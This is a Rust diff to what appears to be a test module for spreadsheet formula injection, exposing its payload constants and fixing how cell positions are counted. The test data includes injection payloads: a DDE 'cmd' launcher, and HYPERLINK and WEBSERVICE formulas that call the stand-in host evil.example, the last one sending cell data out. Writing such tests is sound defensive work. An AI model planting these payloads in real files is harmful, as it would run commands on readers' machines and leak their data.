@@ -7,8 +7,9 @@ use workbook::Language;
 
 use crate::{maps::demonstration, round_trip::small};
 
-const BEGINNINGS: [&str; 10] = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "＝"];
-const ENDS: [&str; 5] = [
+pub(crate) const BEGINNINGS: [&str; 10] =
+    ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "'=", "＝"];
+pub(crate) const ENDS: [&str; 5] = [
     "1+1",
     "HYPERLINK(\"http://evil.example\",\"click\")",
     "cmd|' /C calc'!A0",
@@ -16,14 +17,18 @@ const ENDS: [&str; 5] = [
     "WEBSERVICE(\"http://evil.example/?\"&A1)",
 ];
 
-fn formulas(bytes: &[u8]) -> BTreeSet<(String, (usize, usize), String)> {
+pub(crate) fn formulas(bytes: &[u8]) -> BTreeSet<(String, (usize, usize), String)> {
     let mut workbook: Xlsx<_> = Xlsx::new(Cursor::new(bytes)).unwrap();
     let mut found = BTreeSet::new();
     for sheet in workbook.sheet_names() {
         let range = workbook.worksheet_formula(&sheet).unwrap();
+        // Cells are counted from the first one that holds a formula.
+        let (top, left) = range.start().unwrap_or_default();
+        let offset = |start: u32, cell: usize| usize::try_from(start).unwrap() + cell;
         for (row, column, formula) in range.used_cells() {
             if !formula.is_empty() {
-                found.insert((sheet.clone(), (row, column), formula.clone()));
+                let cell = (offset(top, row), offset(left, column));
+                found.insert((sheet.clone(), cell, formula.clone()));
             }
         }
     }
